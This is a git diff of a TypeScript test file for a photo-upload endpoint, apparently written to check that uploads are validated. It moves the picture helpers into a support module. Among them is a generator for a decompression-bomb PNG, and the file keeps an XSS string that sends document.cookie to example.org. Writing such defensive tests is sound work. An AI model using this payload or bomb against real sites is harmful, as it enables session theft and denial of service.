@@ -1,11 +1,11 @@
 import { randomBytes } from 'node:crypto'
-import { crc32, deflateSync } from 'node:zlib'
-import sharp, { type Sharp } from 'sharp'
+import sharp from 'sharp'
 import { v4 as randomId } from 'uuid'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { maxFileBytes, whileUploading } from '../../src/wire/multipart.ts'
 import { expectMembersOnly } from '../support/guards.ts'
 import { aMember, type TestMember } from '../support/members.ts'
+import { aBomb, aFile, aPicture, colourAt } from '../support/pictures.ts'
 import { startTestServer, type TestServer } from '../support/server.ts'
 import { signedIn } from '../support/till.ts'
 
@@ -14,15 +14,6 @@ beforeAll(async () => {
   app = await startTestServer()
 })
 afterAll(() => app.close())
-
-type Format = 'jpeg' | 'png' | 'webp' | 'gif' | 'avif'
-
-/** Red on its left, blue on its right. */
-function aPicture(width = 60, height = 40): Sharp {
-  const half = { create: { width: width / 2, height, channels: 3 as const, background: 'red' } }
-  return sharp({ create: { width, height, channels: 3, background: 'blue' } }).composite([{ input: half, left: 0, top: 0 }])
-}
-const aFile = (format: Format = 'jpeg', width = 60, height = 40) => aPicture(width, height).toFormat(format).toBuffer()
 
 const upload = (member: TestMember, file: Uint8Array) => app.call('uploadUserIcon', { file }, signedIn(app, member))
 const takeUp = (member: TestMember, photoId: string | null) => app.call('updateUserIcon', { photoId }, signedIn(app, member))
@@ -35,11 +26,6 @@ async function shown(file: Uint8Array): Promise<Buffer> {
   const { result } = await upload(member, file)
   await takeUp(member, result.photoId)
   return Buffer.from(await (await get(pathOf(member, result.photoId))).arrayBuffer())
-}
-
-async function colourAt(image: Buffer, left: number, top: number): Promise<'red' | 'blue' | 'white'> {
-  const [red = 0, green = 0, blue = 0] = await sharp(image).extract({ left, top, width: 1, height: 1 }).raw().toBuffer()
-  return green > 200 ? 'white' : red > blue ? 'red' : 'blue'
 }
 
 describe('a photo', () => {
@@ -102,24 +88,6 @@ describe('a photo', () => {
     expect(await colourAt(await shown(clear), 4, 4)).toBe('white')
   })
 })
-
-/** A PNG of one colour that claims, and has, so many pixels; a few kilobytes on the way. */
-function aBomb(width: number, height: number): Buffer {
-  const chunk = (type: string, data: Buffer) => {
-    const body = Buffer.concat([Buffer.from(type), data])
-    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
-    length.writeUInt32BE(data.length)
-    sum.writeUInt32BE(crc32(body))
-    return Buffer.concat([length, body, sum])
-  }
-  const header = Buffer.alloc(13)
-  header.writeUInt32BE(width, 0)
-  header.writeUInt32BE(height, 4)
-  header[8] = 1
-  const pixels = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 })
-  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
-  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))])
-}
 
 const script = '<script>fetch("https://example.org/"+document.cookie)</script>'
 
